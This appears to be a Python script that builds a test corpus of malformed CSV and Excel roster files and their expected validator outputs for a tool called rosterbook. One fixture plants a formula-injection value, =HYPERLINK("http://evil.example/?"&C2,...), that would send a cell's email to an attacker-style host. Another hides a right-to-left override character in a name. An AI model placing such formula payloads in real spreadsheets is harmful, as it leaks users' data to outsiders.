"""Write the hostile and broken input corpus in ``tests/samples/bad/`` and its ``EXPECTED.json``.

    .venv/bin/python scripts/make_bad_samples.py                  # rewrite tests/samples/bad/
    .venv/bin/python scripts/make_bad_samples.py --out DIR        # write elsewhere (to compare)
    .venv/bin/python scripts/make_bad_samples.py --expected-only  # rewrite EXPECTED.json only (the files stay as committed)

Every file is committed, so the corpus can be inspected without running anything; this script
is how the binary ones (.xlsx) were made. The workbooks start from real exports: a SCIM one from
an in-memory sandbox seeded like the test fixture (``SANDBOX_USERS`` users, seed 1, so platform
ids match), and a Progression one from its CSV export, then each is broken in one way.

``EXPECTED.json`` maps each file to every command that applies to it (a CSV file: ``check`` and
``export --from-csv``, then ``check`` of the exported workbook; a workbook: ``check``, ``preview``
and ``sync``) and, per command, the exit code (0 ok, 1 data, 2 usage), the texts the output must
contain as whole tokens (a cell address such as ``row 7`` does not match ``row 70``), the files it
may write (``writes``; none when absent) and what it may ask the platform (``requests``: none
when absent, ``reads``, or ``sends`` with ``platform_after``, what the platform then holds).
A SCIM workbook's Settings hold ``PLACEHOLDER_URL``; the test points a copy at its live sandbox
and checks the sandbox's request log.
"""

from __future__ import annotations

import argparse
import codecs
import io
import json
import random
import shutil
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from openpyxl import Workbook, load_workbook
from openpyxl.workbook.workbook import Workbook as WorkbookType

ROOT = Path(__file__).resolve().parents[1]
BAD = ROOT / "tests" / "samples" / "bad"
SAMPLES = ROOT / "tests" / "samples"

PLACEHOLDER_URL = "http://127.0.0.1:9/v2"
"""Where the SCIM workbooks point (port 9 discards); the test swaps in its sandbox's URL."""
SANDBOX_USERS = 12
"""Users in the sandbox the SCIM workbooks were exported from (seed 1), and in the test's."""

Run = dict[str, Any]
Expected = dict[str, dict[str, Any]]

# --- CSV files --------------------------------------------------------------------------------

P_HEAD = "First Name,Last Name,email,position,team,manager,account_active"
P_ROWS = [
    "Amara,Okafor,amara.okafor@example.com,Head of Engineering,Engineering,,Active",
    "Tomasz,Nowak,tomasz.nowak@example.com,Senior Engineer,Engineering,amara.okafor@example.com,Active",
    "Zoë,Lefèvre,zoe.lefevre@example.com,Engineer II,Engineering,tomasz.nowak@example.com,Active",
    "Siobhán,O'Neill,siobhan.oneill@example.com,Product Designer,Design,amara.okafor@example.com,Active",
]


def _lines(*lines: str, end: str = "\r\n") -> str:
    return "".join(line + end for line in lines)


def _typo(row: str) -> str:
    """The row with its status misspelt: the planted error whose address proves the file was read right."""
    return row.rsplit(",", 1)[0] + ",actve"


def _check(exit_code: int, *message: str, args: tuple[str, ...] = ()) -> Run:
    return {"command": ["check", *args], "exit_code": exit_code, "message": list(message)}


XLS = "is an Excel 97-2003 workbook (.xls), which rosterbook cannot read: open it in Excel and save it as Excel Workbook (.xlsx)."
PROGRESSION_HEADERS = "'First Name', 'Last Name', 'email', 'position', 'team', 'manager', 'account_active'"
ACTVE = "account_active: 'actve' is not one of 'Active', 'Pending', 'Archived'. Did you mean 'Active'?"
"""The planted error (a misspelt status) whose cell address proves a file was read right."""


def _export(exit_code: int, *message: str, args: tuple[str, ...] = (), then: Run | None = None) -> Run:
    """``export BOOK.xlsx --from-csv FILE`` (the test supplies both paths); an export that works writes book.xlsx,
    and ``then`` is what ``check --no-write`` says about that workbook."""
    run: Run = {"command": ["export", "--from-csv", *args], "exit_code": exit_code, "message": list(message)}
    if exit_code == 0:
        run["writes"] = ["book.xlsx"]
    if then is not None:
        run["then"] = then
    return run



def _export_ok(name: str, rows: int, *then: str, then_code: int = 1, dialect: str = "progression", columns: int = 7) -> Run:
    return _export(0, f"Exported {rows} users from {name} into", f"(dialect {dialect}, {columns} columns).",
                   then=_check(then_code, *then, args=("--no-write",)))


def _refused(name: str, text: str, code: int = 2) -> list[Run]:
    """A file that cannot be read as CSV: check and export both refuse it with the same message, nothing written."""
    return [_check(code, f"{name}: {text}"), _export(code, f"{name}: {text}")]


def _planted(name: str, cell: str, rows: int) -> list[Run]:
    """A readable Progression file whose only problem is the misspelt status at ``cell``: check names it, export
    writes the workbook, and checking the workbook names the same cell on the Users sheet."""
    summary = f"{rows} row{'s' if rows != 1 else ''} checked: 1 error, 0 warnings."
    return [_check(1, f"{name}!{cell} {ACTVE}", summary), _export_ok(name, rows, f"Users!{cell} {ACTVE}", summary)]


def csv_cases() -> dict[str, tuple[bytes, str, list[Run]]]:
    """File name -> (bytes, why, runs): ``check`` and ``export --from-csv`` on every file."""
    p = P_ROWS
    cases: dict[str, tuple[bytes, str, list[Run]]] = {}

    def add(name: str, data: bytes | str, why: str, runs: list[Run]) -> None:
        cases[name] = (data.encode("utf-8") if isinstance(data, str) else data, why, runs)

    not_csv = "holds binary data, not CSV text."
    empty = "the file is empty."
    unclosed = "a quoted cell starting on line 3 is never closed (a '\"' is missing)."
    which = "cannot tell which platform this header row is for; give --dialect (one of 'edapp', 'incenteev', 'jostle', 'progression', 'scim')."
    which_export = which  # export --from-csv says the same as check
    does_not_fit = "the header row does not fit Progression:"
    prog = ("--dialect", "progression")

    # Empty and blank.
    add("csv_empty.csv", b"", "0 bytes", _refused("csv_empty.csv", empty))
    add("csv_whitespace_only.csv", "  \r\n\t\r\n\r\n", "only blanks and line ends", _refused("csv_whitespace_only.csv", empty))
    add("csv_blank_first_line.csv", "\r\n" + _lines(P_HEAD, p[0]), "a blank line above the header",
        _refused("csv_blank_first_line.csv", "the first line should be the header row, but it is blank."))
    add("csv_header_only.csv", _lines(P_HEAD), "an empty sheet: the header and no users",
        [_check(0, "0 rows checked: no problems."), _export_ok("csv_header_only.csv", 0, "0 rows checked: no problems.", then_code=0)])
    # Wrong, missing and duplicated headers.
    add("csv_unknown_headers.csv", _lines("Name,Mail,Dept", "Amara,amara.okafor@example.com,Engineering"),
        "no header of any platform", [_check(2, f"csv_unknown_headers.csv: {which}"), _export(2, f"csv_unknown_headers.csv: {which_export}")])
    typo = (f"csv_header_typo.csv!G1 acount_active: 'acount_active' is not a Progression column; expected one of {PROGRESSION_HEADERS}. "
            "Did you mean 'account_active'?")
    add("csv_header_typo.csv", _lines(P_HEAD.replace("account_active", "acount_active"), p[0], p[1]), "a misspelt header",
        [_check(1, typo, "csv_header_typo.csv account_active: the header row has no 'account_active' column: new users in this file would lack it "
                "(Progression requires it for new users). (warning)", "2 rows checked: 1 error, 1 warning."),
         _export(1, f"csv_header_typo.csv: {does_not_fit} {typo}")])
    again = "csv_duplicate_header.csv!H1 email: 'email' names column 'email' again (first in C1)."
    add("csv_duplicate_header.csv", _lines(P_HEAD + ",email", p[0] + ",amara@example.com"), "the key header twice",
        [_check(1, again, "1 row checked: 1 error, 0 warnings."), _export(1, f"csv_duplicate_header.csv: {does_not_fit} {again}")])
    no_key = "csv_missing_key_column.csv email: the header row has no 'email' column, which identifies users on Progression."
    add("csv_missing_key_column.csv",
        _lines("First Name,Last Name,position,team,manager,account_active", "Amara,Okafor,Head of Engineering,Engineering,,Active"),
        "no email column (the key)",
        [_check(1, no_key, "1 row checked: 1 error, 0 warnings.", args=prog), _export(1, f"csv_missing_key_column.csv: {does_not_fit} {no_key}", args=prog)])
    no_last = "csv_missing_required_column.csv Last Name: the header row has no 'Last Name' column, which Progression requires."
    add("csv_missing_required_column.csv",
        _lines("First Name,email,position,team,manager,account_active", "Amara,amara.okafor@example.com,Head of Engineering,Engineering,,Active"),
        "no Last Name column",
        [_check(1, no_last, "1 row checked: 1 error, 0 warnings.", args=prog),
         _export(1, f"csv_missing_required_column.csv: {does_not_fit} {no_last}", args=prog)])
    jostle_as_progression = f"csv_header_wrong_platform.csv!A1 Username: 'Username' is not a Progression column; expected one of {PROGRESSION_HEADERS}."
    add("csv_header_wrong_platform.csv", (SAMPLES / "jostle_extract.csv").read_bytes(), "a Jostle file checked as Progression",
        [_check(1, jostle_as_progression, "csv_header_wrong_platform.csv email: the header row has no 'email' column, which identifies users on Progression.",
                "11 rows checked: 19 errors, 1 warning.", args=prog),
         _export(1, f"csv_header_wrong_platform.csv: {does_not_fit} {jostle_as_progression}", args=prog)])
    # Stray quotes.
    add("csv_stray_quote_unclosed.csv", _lines(P_HEAD, p[0], 'Tomasz,"Nowak,tomasz.nowak@example.com,Senior Engineer,Engineering,,Active', p[2]),
        "an opening quote never closed", _refused("csv_stray_quote_unclosed.csv", unclosed))
    add("csv_stray_quote_inside.csv", _lines(P_HEAD, 'Tom "The Hammer",Nowak,tomasz.nowak@example.com,,,,Active', _typo(p[2])),
        "quotes inside an unquoted cell are text; row 3's error proves nothing shifted", _planted("csv_stray_quote_inside.csv", "G3", 2))
    # Known gap: export takes the glued key as the platform's, and the workbook no longer shows the problem.
    add("csv_stray_quote_after_closing.csv", _lines(P_HEAD, p[0], 'Tomasz,Nowak,"tomasz.nowak@example.com"x,,,,Active'),
        "text after a closing quote: the key would silently become 'tomasz.nowak@example.comx'",
        [_check(1, "csv_stray_quote_after_closing.csv!C3 email: text follows the closing quote of a quoted cell, so it was read as "
                "'tomasz.nowak@example.comx'. Inside a quoted cell write a quote as \"\" (or remove the quotes around the cell).",
                "2 rows checked: 1 error, 0 warnings."),
         _export_ok("csv_stray_quote_after_closing.csv", 2, "2 rows checked: no problems.", then_code=0)])
    add("csv_truncated_in_quote.csv", _lines(P_HEAD, p[0]) + 'Tomasz,Nowak,tomasz.nowak@example.com,"Senior Eng',
        "the file ends inside a quoted cell (cut short)", _refused("csv_truncated_in_quote.csv", unclosed))
    cut = ("csv_truncated_mid_row.csv!C3: the file ends in the middle of this row (3 of 7 cells, no line end): it looks cut short "
           "(an interrupted download or copy), so users after it may be missing. Export or save the file again.")
    add("csv_truncated_mid_row.csv", _lines(P_HEAD, p[0]) + "Tomasz,Nowak,tomasz.nowak@exa",
        "the file ends in the middle of a row",
        [_check(1, cut, "csv_truncated_mid_row.csv!C3 email: 'tomasz.nowak@exa' is not a valid email address: The part after the @-sign is not valid. "
                "It should have a period.", "2 rows checked: 2 errors, 1 warning."),
         _export(1, f"{cut} Nothing was written.")])
    # Known gap: export drops the shifted row's 8th cell without a word (check reports it in the file, not in the workbook).
    add("csv_unquoted_delimiter.csv", _lines(P_HEAD, p[0], "Tomasz,Nowak,tomasz.nowak@example.com,Senior Engineer, Platform,Engineering,,Active"),
        "a value with a comma that lost its quotes shifts the cells after it",
        [_check(1, "csv_unquoted_delimiter.csv!H3: this row has 8 cells but the header row has 7: a value containing ',' may have lost its quotes, "
                "shifting the cells after it.", "csv_unquoted_delimiter.csv!F3 manager: 'Engineering' is not a valid email address: "
                "An email address must have an @-sign.", "2 rows checked: 2 errors, 1 warning."),
         _export_ok("csv_unquoted_delimiter.csv", 2, "Users!F3 manager: 'Engineering' is not a valid email address: An email address must have an @-sign.",
                    "2 rows checked: 1 error, 0 warnings.")])
    # BOMs, encodings, line ends.
    add("csv_bom_utf8.csv", codecs.BOM_UTF8 + _lines(P_HEAD, p[0], _typo(p[2])).encode("utf-8"),
        "UTF-8 with a BOM (Excel's 'CSV UTF-8')", _planted("csv_bom_utf8.csv", "G3", 2))
    add("csv_bom_twice.csv", codecs.BOM_UTF8 + ("\ufeff" + _lines(P_HEAD, _typo(p[0]))).encode("utf-8"),
        "two BOMs (a file re-saved by a tool that adds one)", _planted("csv_bom_twice.csv", "G2", 1))
    add("csv_utf16_tab.csv", codecs.BOM_UTF16_LE + _lines(P_HEAD, p[0], _typo(p[2])).replace(",", "\t").encode("utf-16-le"),
        "UTF-16 with tabs (Excel's 'Unicode text')", _planted("csv_utf16_tab.csv", "G3", 2))
    add("csv_utf16_no_bom.csv", _lines(P_HEAD, p[0]).encode("utf-16-le"), "UTF-16 without a BOM", _refused("csv_utf16_no_bom.csv", not_csv))
    add("csv_cp1252.csv", _lines(P_HEAD, p[0], _typo(p[2]), p[3]).encode("cp1252"),
        "Windows-1252 (Excel's 'CSV' on Western Windows)", _planted("csv_cp1252.csv", "G3", 3))
    add("csv_bom_then_invalid_utf8.csv", codecs.BOM_UTF8 + _lines(P_HEAD).encode() + "Zoë,Lefèvre,zoe.lefevre@example.com,,,,Active\r\n".encode("cp1252"),
        "a UTF-8 BOM, then Windows-1252 bytes", _refused("csv_bom_then_invalid_utf8.csv", "starts like utf-8-sig text but byte 70 is not valid utf-8-sig."))
    add("csv_sep_hint_semicolon.csv", ("sep=;\r\n" + _lines(P_HEAD, p[0], _typo(p[1])).replace(",", ";")).encode("utf-8"),
        "Excel's sep=; hint line and ';' delimiters", _planted("csv_sep_hint_semicolon.csv", "G3", 2))
    add("csv_cr_only.csv", _lines(P_HEAD, p[0], _typo(p[1]), end="\r"), "old Mac line ends (CR only)", _planted("csv_cr_only.csv", "G3", 2))
    add("csv_mixed_line_ends.csv", P_HEAD + "\n" + p[0] + "\r\n" + _typo(p[1]) + "\r" + p[2] + "\n",
        "LF, CRLF and CR in one file", _planted("csv_mixed_line_ends.csv", "G3", 3))
    # Not CSV at all.
    add("csv_nul_bytes.csv", _lines(P_HEAD, "Am\x00ara,Okafor,amara.okafor@example.com,,,,Active"), "NUL bytes in the text", _refused("csv_nul_bytes.csv", not_csv))
    add("csv_is_a_workbook.csv", _zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}),
        "an .xlsx renamed .csv", _refused("csv_is_a_workbook.csv", "is an Excel workbook (.xlsx), not a CSV file: give it an .xlsx name and check it "
                                          "as a workbook (rosterbook check csv_is_a_workbook.xlsx)."))
    add("csv_is_xls.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 4, "an Excel 97-2003 file renamed .csv",
        _refused("csv_is_xls.csv", XLS))
    add("csv_is_pdf.csv", _pdf_bytes(), "a PDF renamed .csv", _refused("csv_is_pdf.csv", not_csv))
    add("csv_is_pdf_text_only.csv", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
        "a PDF without binary streams: read as text, no platform's header",
        [_check(2, f"csv_is_pdf_text_only.csv: {which}"), _export(2, f"csv_is_pdf_text_only.csv: {which_export}")])
    # Formulas, dates and numbers where text is expected.
    formula = "is a formula's text, not a value: it would be sent as that text. Type the value itself."
    add("csv_formula_cells.csv", _lines(P_HEAD, '"=HYPERLINK(""http://evil.example/?""&C2,""Amara"")",Okafor,amara.okafor@example.com,,=1+1,,Active'),
        "formulas typed into data cells; exported from the platform they are its text, inert in the workbook and escaped in an upload",
        [_check(1, f"csv_formula_cells.csv!A2 First Name: '=HYPERLINK(\"http://evil.example/?\"&C2,\"Amara\")' {formula}",
                f"csv_formula_cells.csv!E2 team: '=1+1' {formula}", "1 row checked: 2 errors, 0 warnings."),
         # In the workbook they are the platform's text: warnings that the upload file escapes them ('=1+1 stays text).
         _export_ok("csv_formula_cells.csv", 1, "Users!A2 First Name: '=HYPERLINK(\"http://evil.example/?\"&C2,\"Amara\")' starts with '=', "
                    "so the upload file writes it as", "Users!E2 team: '=1+1' starts with '=', so the upload file writes it as \"'=1+1\"",
                    "1 row checked: 0 errors, 2 warnings.", then_code=0)])
    mangled = ["I2 Work Phone: '4.16555E+10' looks like a phone number Excel rewrote in scientific notation.",
               "J2 Employee ID: '1.01E+02' looks like a number Excel rewrote in scientific notation; the original ID is lost. "
               "Format the column as Text and type it again.",
               "K3 Start Date: '7/18/2016' is not a date written YYYY-MM-DD. Did you mean '2016-07-18'?"]
    add("csv_excel_mangled_numbers.csv",
        _lines("Username,First Name,Last Name,Work Email,Job Title,Location,Org,Manager,Work Phone,Employee ID,Start Date",
               "sarah.lee,Sarah,Lee,sarah.lee@example.net,CEO,Main\\|HQ,Executive,,4.16555E+10,1.01E+02,2015-03-02",
               "david.cohen,David,Cohen,david.cohen@example.net,VP Operations,Main\\|HQ,Operations,sarah.lee,+1 416 555 0101,000102,7/18/2016"),
        "Excel rewrote IDs and phones as numbers and a date in the US locale",
        [_check(1, *[f"csv_excel_mangled_numbers.csv!{m}" for m in mangled], "2 rows checked: 3 errors, 0 warnings."),
         _export_ok("csv_excel_mangled_numbers.csv", 2, *[f"Users!{m}" for m in mangled], "2 rows checked: 3 errors, 0 warnings.",
                    dialect="jostle", columns=11)])
    twice = "C4 email: 'Amara.Okafor@Example.com' is already the email of row 2 (C2); each user can appear only once."
    add("csv_duplicate_keys.csv", _lines(P_HEAD, p[0], p[1], p[0].replace("amara.okafor@example.com", "Amara.Okafor@Example.com")),
        "the same user twice, spelt in another case",
        [_check(1, f"csv_duplicate_keys.csv!{twice}", "3 rows checked: 1 error, 0 warnings."),
         _export_ok("csv_duplicate_keys.csv", 3, f"Users!{twice}", "3 rows checked: 1 error, 0 warnings.")])
    separator = "F2 Roles: 'Admin,Learner' uses ',' between items; separate Roles with '; '. Did you mean 'Admin; Learner'?"
    add("csv_wrong_list_separator.csv",
        _lines("Email,Username,First Name,Last Name,User groups,Roles,Password,External ID",
               "olivia.hart@example.org,olivia.hart@example.org,Olivia,Hart,marketing,\"Admin,Learner\",,000417"),
        "an EdApp list written with commas",
        [_check(1, f"csv_wrong_list_separator.csv!{separator}", "1 row checked: 1 error, 0 warnings."),
         _export_ok("csv_wrong_list_separator.csv", 1, f"Users!{separator}", "1 row checked: 1 error, 0 warnings.", dialect="edapp", columns=8)])
    # Invisible characters are warnings; a workbook cannot hold control characters (the cell shows U+FFFD and says so), the override stays.
    rtl = "B2 Last Name: 'Oka\\u202efor' contains U+202E RIGHT-TO-LEFT OVERRIDE, invisible in the sheet; remove it unless it is meant to be there. " \
          "Did you mean 'Okafor'? (warning)"
    add("csv_control_characters.csv", _lines(P_HEAD, "Am\x1bara\x07,Oka\u202efor,amara.okafor@example.com,,,,Active", _typo(p[1])),
        "escape, bell and right-to-left override characters in names",
        [_check(1, "csv_control_characters.csv!A2 First Name: 'Am\\x1bara\\x07' contains U+001B CONTROL CHARACTER, U+0007 CONTROL CHARACTER, invisible "
                "in the sheet; remove it unless it is meant to be there. Did you mean 'Amara'? (warning)", f"csv_control_characters.csv!{rtl}",
                f"csv_control_characters.csv!G3 {ACTVE}", "2 rows checked: 1 error, 2 warnings."),
         _export_ok("csv_control_characters.csv", 2, "Users!A2 First Name: the platform sent characters a workbook cannot hold (not valid Unicode, "
                    "or control characters: U+0007, U+001B); they show as '\ufffd' (U+FFFD).", f"Users!{rtl}", f"Users!G3 {ACTVE}",
                    "2 rows checked: 1 error, 2 warnings.")])
    return cases


def _zip_bytes(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), text)
    return buffer.getvalue()


def _pdf_bytes() -> bytes:
    stream = bytes(random.Random(7).getrandbits(8) for _ in range(512)) + bytes(8)  # compressed streams hold NUL bytes
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 512 /Filter /FlateDecode >>\nstream\n" + stream + b"\nendstream\nendobj\n%%EOF\n"


# --- workbooks --------------------------------------------------------------------------------


def _scim_base(folder: Path) -> Path:
    """A workbook exported from a sandbox seeded like the test fixture, pointing at the placeholder URL."""
    from rosterbook.app import export_workbook
    from rosterbook.sandbox import start_sandbox

    path = folder / "scim_base.xlsx"
    with start_sandbox(users=SANDBOX_USERS, seed=1) as sandbox:
        export_workbook(path, platform=sandbox.url)
    wb = load_workbook(path)
    _set_setting(wb, "platform_url", PLACEHOLDER_URL)
    wb.save(path)
    return path


def _progression_base(folder: Path) -> Path:
    from rosterbook.app import export_workbook

    path = folder / "progression_base.xlsx"
    export_workbook(path, from_csv=SAMPLES / "progression_export.csv")
    return path


def _set_setting(wb: WorkbookType, key: str, value: Any) -> None:
    ws = wb["Settings"]
    for row in ws.iter_rows(min_row=2):
        if row[0].value == key:
            row[1].value = value
            return
    raise KeyError(key)


def _header_column(ws: Any, header: str) -> int:
    for cell in ws[1]:
        if cell.value == header:
            return int(cell.column)
    raise KeyError(header)


BookEdit = Callable[[WorkbookType], None]


def _users_cell(header: str, row: int, value: Any) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        ws = wb["Users"]
        ws.cell(row=row, column=_header_column(ws, header), value=value)

    return edit


def _rename_header(old: str, new: str | None) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        ws = wb["Users"]
        ws.cell(row=1, column=_header_column(ws, old)).value = new  # ws.cell(value=None) would leave the old value

    return edit


def _delete_sheet(name: str) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        del wb[name]

    return edit


def _snapshot_cell(address: str, value: Any) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        wb["_snapshot"][address] = value

    return edit


def _delete_row_id_column(wb: WorkbookType) -> None:
    ws = wb["Users"]
    ws.delete_cols(_header_column(ws, "_row_id"))


def _merge(cells: str) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        wb["Users"].merge_cells(cells)

    return edit


def _all(*edits: BookEdit) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        for one in edits:
            one(wb)

    return edit


def _clear_users(wb: WorkbookType) -> None:
    ws = wb["Users"]
    for table in list(ws.tables):
        del ws.tables[table]
    ws.delete_rows(1, ws.max_row)


def _snapshot_visible_and_edited(wb: WorkbookType) -> None:
    ws = wb["_snapshot"]
    ws.sheet_state = "visible"
    ws["C3"] = str(ws["C3"].value).replace('"key":"', '"key":"someone.else.')
    ws["A5"] = None


SCIM_COLUMNS = ("'Username', 'First name', 'Last name', 'Email', 'Status', 'Job title', 'Department', 'Team', 'Position', 'Locations', "
                "'Manager', 'Groups', 'Roles', 'Employee ID', 'Phone', 'Start date', 'Display name', 'Formatted name', 'Cost center', 'Organization', "
                "'Division'")
NOTHING_CHANGED = "0 create, 0 update, 0 archive, 0 rename, 0 conflict, {} unchanged, 0 deactivate, {} error"


def _book_run(command: list[str], exit_code: int, *message: str, writes: tuple[str, ...] = (), requests: str = "none") -> Run:
    """One command on a workbook. ``writes``: files it may create or change; ``requests``: "none", "reads" (GET
    only) or "sends" (the platform is changed)."""
    run: Run = {"command": command, "exit_code": exit_code, "message": list(message)}
    if writes:
        run["writes"] = list(writes)
    if requests != "none":
        run["requests"] = requests
    return run


def _unusable(name: str, exit_code: int, *text: str) -> list[Run]:
    """A workbook no command can use: check, preview and sync all refuse it with the same message, before any request."""
    return [_book_run(["check", "--no-write"], exit_code, *text), _book_run(["preview"], exit_code, *text), _book_run(["sync", "--yes"], exit_code, *text)]


DAMAGED = "_snapshot: the export snapshot was edited, truncated or re-ordered outside rosterbook"


def _snapshot_rows_deleted(first: int, count: int) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        wb["_snapshot"].delete_rows(first, count)

    return edit


def _snapshot_rows_swapped(a: int, b: int) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        ws = wb["_snapshot"]
        width = ws.max_column
        first = [ws.cell(a, c).value for c in range(1, width + 1)]
        for c in range(1, width + 1):
            ws.cell(a, c).value = ws.cell(b, c).value
            ws.cell(b, c).value = first[c - 1]

    return edit


def _snapshot_column_reversed(letter: str) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        ws = wb["_snapshot"]
        cells = [ws[f"{letter}{n}"] for n in range(2, ws.max_row + 1)]
        values = [c.value for c in cells][::-1]
        for cell, value in zip(cells, values, strict=True):
            cell.value = value

    return edit


def _row_errors(name: str, platform: str, users: int, errors: list[tuple[int, str, str, str]], *, reads: bool = True) -> list[Run]:
    """Rows whose edits have errors: check names each cell; preview shows each row as an error (exit 1, reading the
    platform's current versions); sync refuses before any request. ``errors``: (row, key, change line, problem line)."""
    rows = sorted(row for row, _, _, _ in errors)
    count = f"{len(rows)} row{'s have' if len(rows) != 1 else ' has'} errors ({'rows' if len(rows) != 1 else 'row'} {', '.join(map(str, rows))})"
    spec = f"{rows[0]}-{rows[-1]}" if len(rows) > 1 and rows[-1] == rows[0] + 1 else ",".join(map(str, rows))
    problems = [problem for _, _, _, problem in errors]
    return [
        _book_run(["check", "--no-write"], 1, *problems, f"{users} rows checked: {len(errors)} error{'s' if len(errors) != 1 else ''}, 0 warnings."),
        _book_run(["preview"], 1, f"Plan for {platform}: " + NOTHING_CHANGED.format(users - len(errors), len(errors)),
                  *[f"error row {row} {key}" for row, key, _, _ in errors], *[change for _, _, change, _ in errors], *problems,
                  writes=(name,), requests="reads" if reads else "none"),
        _book_run(["sync", "--yes"], 1, f"{count}; nothing was sent.", f"--skip-rows {spec}. First: {problems[0]}"),
    ]


def _header_errors(name: str, problems: list[str], first: str, users: int = 12, sync_first: str | None = None, preview: Run | None = None) -> list[Run]:
    """Header errors: check names them; preview is refused (no request: the sheet alone decides); sync refuses."""
    return [
        _book_run(["check", "--no-write"], 1, *problems, f"{users} rows checked: {len(problems)} error{'s' if len(problems) != 1 else ''}, 0 warnings."),
        preview or _book_run(["preview"], 1, f"Refused: the sheet itself has {len(problems)} error(s) (e.g. {first}); fix them first.", writes=(name,)),
        _book_run(["sync", "--yes"], 1, f"the sheet's header has errors, nothing was sent: {sync_first or first}", *problems),
    ]


def book_cases() -> dict[str, tuple[str, str, BookEdit | None, bytes | None, list[Run]]]:
    """File name -> (base 'scim'|'progression'|'', why, edit of the base, or raw bytes, runs): check, preview and sync on every workbook."""
    scim = "SCIM 2.0 platform"
    formula = "is a formula's text, not a value: it would be sent as that text. Type the value itself."
    no_username = "Users Username: the header row has no 'Username' column, which identifies users on SCIM 2.0 platform."
    no_settings = "the workbook has no 'Settings' sheet: is it a rosterbook workbook? Run `rosterbook export` to make one."
    no_row_ids = "Users: the hidden '_row_id' column is missing, so rows cannot be matched to the exported users. Undo the column deletion, or export again."

    def unreadable(name: str) -> list[Run]:
        return _unusable(name, 2, f"{name}': cannot be read as an .xlsx workbook")

    status = "Users!E8 Status: 'actve' is not one of 'Active', 'Pending', 'Archived'. Did you mean 'Active'?"
    email = "Users!D9 Email: 'not-an-email' is not a valid email address: An email address must have an @-sign."
    date = ("Users!C7 Last name: '2024-03-01' is a date, but this column holds text: Excel converted what was typed. "
            "Format the cell as Text and type the value again.")
    number = ("Users!N6 Employee ID: '1.234567890123457e+19' is a number Excel rewrote (in scientific notation, or past 15 digits): "
              "the original ID is lost. Format the column as Text and type it again.")
    blank_header = "Users!A1: column A has no header but holds values (first A2): was its header erased or merged away? Type the column's header back."
    login_name = f"Users!A1 Login name: 'Login name' is not a SCIM 2.0 platform column; expected one of {SCIM_COLUMNS}. Did you mean 'Last name'?"
    merged_a1 = "Users!A1 Username: A1:B1 are merged cells: only A1 holds a value, the others read as blank. Unmerge them and fill in each cell."
    merged_b1 = "Users!B1: column B has no header but holds values (first B2): was its header erased or merged away? Type the column's header back."
    p_status = "Users!G4 account_active: 'actve' is not one of 'Active', 'Pending', 'Archived'. Did you mean 'Active'?"
    p_formula = f"Users!B6 Last Name: '=1+1' {formula}"
    cases: dict[str, tuple[str, str, BookEdit | None, bytes | None, list[Run]]] = {
        # Not a workbook at all.
        "book_empty_file.xlsx": ("", "0 bytes named .xlsx", None, b"", unreadable("book_empty_file.xlsx")),
        "book_renamed_pdf.xlsx": ("", "a PDF renamed .xlsx", None, _pdf_bytes(), unreadable("book_renamed_pdf.xlsx")),
        "book_renamed_csv.xlsx": ("", "a CSV file renamed .xlsx", None, (SAMPLES / "progression_export.csv").read_bytes(), unreadable("book_renamed_csv.xlsx")),
        "book_renamed_xls.xlsx": ("", "an Excel 97-2003 file renamed .xlsx", None, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048),
                                  _unusable("book_renamed_xls.xlsx", 2, f"book_renamed_xls.xlsx: {XLS}")),
        "book_garbage.xlsx": ("", "random bytes", None, bytes(random.Random(3).getrandbits(8) for _ in range(4096)), unreadable("book_garbage.xlsx")),
        "book_zip_not_workbook.xlsx": ("", "a zip archive of other files", None, _zip_bytes({"notes.txt": "hello", "photo.jpg": "\xff\xd8"}),
                                       unreadable("book_zip_not_workbook.xlsx")),
        # Not a rosterbook workbook, or its sheets deleted.
        "book_plain_workbook.xlsx": ("", "an ordinary workbook with a user list but no rosterbook layout", None, _plain_workbook(),
                                     _unusable("book_plain_workbook.xlsx", 1, no_settings)),
        "book_users_sheet_deleted.xlsx": ("scim", "the Users sheet deleted", _delete_sheet("Users"), None,
                                          _unusable("book_users_sheet_deleted.xlsx", 1, "the workbook has no 'Users' sheet.")),
        "book_settings_sheet_deleted.xlsx": ("scim", "the Settings sheet deleted", _delete_sheet("Settings"), None,
                                             _unusable("book_settings_sheet_deleted.xlsx", 1, no_settings)),
        # The hidden snapshot.
        "book_snapshot_deleted.xlsx": ("scim", "the very hidden _snapshot sheet deleted (rows still carry row ids)", _delete_sheet("_snapshot"), None,
                                       _unusable("book_snapshot_deleted.xlsx", 1, "the very hidden '_snapshot' sheet is missing, but 12 rows of the Users "
                                                 "sheet come from an export (they carry hidden row ids), so they cannot be compared with what was exported.")),
        "book_snapshot_header_edited.xlsx": ("scim", "the snapshot's header edited", _snapshot_cell("A1", "id"), None,
                                             _unusable("book_snapshot_header_edited.xlsx", 1, "_snapshot!A1: the snapshot sheet's header was changed, so it cannot "
                                                       "be trusted; nothing was sent.")),
        "book_snapshot_bad_json.xlsx": ("scim", "a snapshot entry is not JSON any more", _snapshot_cell("C4", "{not json"), None,
                                        _unusable("book_snapshot_bad_json.xlsx", 1, DAMAGED, "_snapshot!A4")),
        "book_snapshot_values_not_texts.xlsx": ("scim", "a snapshot entry replaced by other JSON", _snapshot_cell("C5", '{"key": "x", "values": {"Username": 42}}'),
                                                None, _unusable("book_snapshot_values_not_texts.xlsx", 1, DAMAGED, "_snapshot!A5")),
